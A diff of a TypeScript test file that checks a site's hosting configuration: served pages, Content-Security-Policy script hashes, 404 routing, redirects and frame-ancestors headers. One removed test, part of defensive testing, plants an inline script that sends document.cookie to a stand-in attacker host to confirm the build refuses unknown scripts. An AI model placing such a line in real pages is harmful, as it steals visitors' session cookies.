@@ -1,89 +1,44 @@
-import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { mkdirSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import path from "node:path";
 import { afterEach, expect, it } from "vitest";
 import { readConfig } from "#web/shared/config/environment.server.ts";
-import { hostingConfigOf, pageAddressRegex, servedDocuments, writeHostingConfig } from "./hosting-config";
-import { NOT_FOUND_FOLDER, notFoundPageIn } from "./prerendered-html";
-import { scriptHash } from "./security-headers";
-
-const page = (script: string) => `<!DOCTYPE html><html><head><script>${script}</script></head></html>`;
-/** A script of the shape React Router writes a page's loader data in. */
-const loaderData = (data: string) =>
-  `window.__reactRouterContext.streamController.enqueue(${JSON.stringify(JSON.stringify(data))});`;
+import { hostingConfigOf, writeHostingConfig } from "./hosting-config";
+import { NOT_FOUND_FOLDER } from "./prerendered-html";
 
 let buildDir: string;
 afterEach(() => rmSync(buildDir, { recursive: true, force: true }));
 
-/** A client build with a page, the English 404.html and each language's 404 page, each with its own inline script. */
-function clientBuild() {
+type Rule = { source?: string; regex?: string; headers: { key: string; value: string }[] };
+
+function writtenHosting(env: Record<string, string> = {}) {
   buildDir = mkdtempSync(path.join(tmpdir(), "build-"));
-  const client = path.join(buildDir, "client");
-  mkdirSync(path.join(client, "pricing"), { recursive: true });
-  writeFileSync(path.join(client, "pricing", "index.html"), page(loaderData("pricing")));
-  writeFileSync(path.join(client, "404.html"), page(loaderData("notFound")));
-  for (const language of ["en", "es"] as const) {
-    mkdirSync(path.dirname(notFoundPageIn(client, language)), { recursive: true });
-    writeFileSync(notFoundPageIn(client, language), page(loaderData(`notFound ${language}`)));
-  }
-  return client;
+  mkdirSync(path.join(buildDir, "client"));
+  writeHostingConfig(buildDir, readConfig(env), [{ from: "/old", to: "/new", permanent: true }]);
+  return JSON.parse(readFileSync(hostingConfigOf(buildDir), "utf8")).hosting;
 }
 
-it("serves the pages, 404.html and each language's 404 page", () => {
-  const client = clientBuild();
-  expect(servedDocuments(client)).toEqual([
-    path.join(client, "pricing", "index.html"),
-    path.join(client, "404.html"),
-    notFoundPageIn(client, "en"),
-    notFoundPageIn(client, "es"),
-  ]);
-});
-
-/** The Content-Security-Policy the written config has the host send at an address (a later rule's over an earlier one's). */
-function policyAt(address: string) {
-  const { hosting } = JSON.parse(readFileSync(hostingConfigOf(buildDir), "utf8"));
-  let policy: string | undefined;
-  for (const rule of hosting.headers as { regex?: string; headers: { key: string; value: string }[] }[])
-    if (rule.regex && new RegExp(rule.regex).test(address))
-      policy = rule.headers.find((header) => header.key === "Content-Security-Policy")?.value ?? policy;
-  return policy!;
-}
-
-it("names the 404 pages' folder as the host's i18n root", () => {
-  clientBuild();
-  writeHostingConfig(buildDir, readConfig({}), []);
-  const { hosting } = JSON.parse(readFileSync(hostingConfigOf(buildDir), "utf8"));
+it("serves the build's client folder, names the 404 pages' folder as the host's i18n root and adds the content's redirects", () => {
+  const hosting = writtenHosting();
+  expect(hosting.public).toBe("client");
+  expect(hosting.predeploy).toBeUndefined();
   expect(hosting.i18n).toEqual({ root: `/${NOT_FOUND_FOLDER}` });
+  expect(hosting.redirects).toContainEqual({ source: "/old", destination: "/new", type: 301 });
 });
 
-it("allows each page's scripts at its address, and every 404 page's at an unknown one", () => {
-  clientBuild();
-  writeHostingConfig(buildDir, readConfig({}), []);
-  for (const address of ["/pricing", "/pricing/", "/pricing.html", "/pricing/index.html"]) {
-    expect(policyAt(address), address).toContain(scriptHash(loaderData("pricing")));
-    expect(policyAt(address), address).not.toContain(scriptHash(loaderData("notFound")));
-  }
-  for (const address of ["/no-such-page", "/pricing-plans", "/pricing/more", "/es/nada"]) {
-    expect(policyAt(address), address).not.toContain(scriptHash(loaderData("pricing")));
-    for (const data of ["notFound", "notFound en", "notFound es"])
-      expect(policyAt(address), address).toContain(scriptHash(loaderData(data)));
-  }
-});
-
-it("reads a page's address literally, not as a pattern", () => {
-  expect(new RegExp(pageAddressRegex("/a.b")).test("/a.b")).toBe(true);
-  expect(new RegExp(pageAddressRegex("/a.b")).test("/axb")).toBe(false);
-  expect(new RegExp(pageAddressRegex("/")).test("/")).toBe(true);
-  expect(new RegExp(pageAddressRegex("/")).test("/pricing")).toBe(false);
-});
-
-it("refuses a built page with an inline script the site does not write, naming the page", () => {
-  const client = clientBuild();
-  writeFileSync(
-    path.join(client, "pricing", "index.html"),
-    page('fetch("https://evil.example/?" + document.cookie)'),
+it("sends every page, and only the pages, a policy of who may frame it: a page carries the rest of its policy", () => {
+  const rules: Rule[] = writtenHosting({
+    VITE_SANITY_STUDIO_URL: "https://nexora.sanity.studio/desk",
+  }).headers;
+  const policies = rules.filter((rule) =>
+    rule.headers.some((header) => header.key === "Content-Security-Policy"),
   );
-  expect(() => writeHostingConfig(buildDir, readConfig({}), [])).toThrow(
-    /Inline scripts the site does not write, refused[^]*pricing\/index\.html: "fetch\(/,
-  );
+  expect(policies).toEqual([
+    expect.objectContaining({
+      regex: expect.any(String),
+      headers: expect.arrayContaining([
+        { key: "Content-Security-Policy", value: "frame-ancestors 'self' https://nexora.sanity.studio" },
+      ]),
+    }),
+  ]);
 });
